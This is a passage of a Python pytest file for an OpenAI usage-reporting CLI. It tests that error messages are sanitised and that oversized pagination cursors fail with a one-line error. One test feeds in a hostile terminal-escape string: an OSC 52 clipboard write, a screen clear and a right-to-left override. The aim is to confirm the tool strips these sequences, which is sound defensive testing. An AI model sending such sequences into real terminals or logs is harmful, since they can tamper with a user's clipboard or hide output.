    trick = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\u202e\nsecond line"
    error = {"message": "Invalid project", "type": "invalid_request_error", "code": "bad", "param": "project_ids"}
    headers: dict[bytes, bytes] = {}
    if where == "x-request-id":
        headers[b"x-request-id"] = ("req_" + trick.replace("\n", " ")).encode()  # a header cannot hold a newline
    else:
        error[where] = f"{error[where]} {trick}"
    monkeypatch.setenv("OPENAI_ADMIN_KEY", "sk-admin-test-tricks")
    httpx_mock.add_response(status_code=400, json={"error": error}, headers=headers, is_reusable=True)
    code, out, err = cli(capsys, "--base-url", BASE, "projects")
    assert (code, out) == (1, "")
    assert err.startswith("oai-usage: error: ") and err.count("\n") == 1
    assert not any(char in err for char in "\x1b\x07\u202e")
    assert "\\x1b]52;c;ZXZpbA==\\x07" in err


# --- Issue 26: a cursor no URL can carry is a typed error, one line ------------------------------------------------

HUGE_CURSOR = "c" * (1 << 20)


def _huge_cursors(request: httpx.Request) -> httpx.Response:
    path = request.url.path
    if path.endswith("/organization/projects"):
        return httpx.Response(200, json={"object": "list", "data": PROJECTS[:1], "first_id": "proj_a",
                                         "last_id": HUGE_CURSOR, "has_more": True})  # fmt: skip
    if path.endswith("/costs"):
        start = int(request.url.params["start_time"])
        return httpx.Response(200, json={"object": "page", "data": [{"object": "bucket", "start_time": start,
                                         "end_time": start + 86400, "results": []}], "has_more": True,
                                         "next_page": HUGE_CURSOR})  # fmt: skip
    return _pinned(request)


@pytest.mark.parametrize(
    ("argv", "field"),
    [(["projects"], "last_id"), (["keys"], "last_id"), (["costs", "--start", "3d"], "next_page")],
    ids=["projects", "keys", "costs"],
)
def test_a_megabyte_cursor_is_one_line_and_exit_1(
    argv: list[str], field: str, capsys: pytest.CaptureFixture[str], httpx_mock: HTTPXMock,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    monkeypatch.setenv("OPENAI_ADMIN_KEY", "sk-admin-test-cursor")
    httpx_mock.add_callback(_huge_cursors, is_reusable=True)
    code, out, err = cli(capsys, "--base-url", BASE, *argv)
    assert (code, out) == (1, "")
    assert err.startswith("oai-usage: error: ") and err.count("\n") == 1 and len(err) < 400
    assert f"gives a {field} cursor of 1048576 characters (at most 4096); it cannot be followed" in err
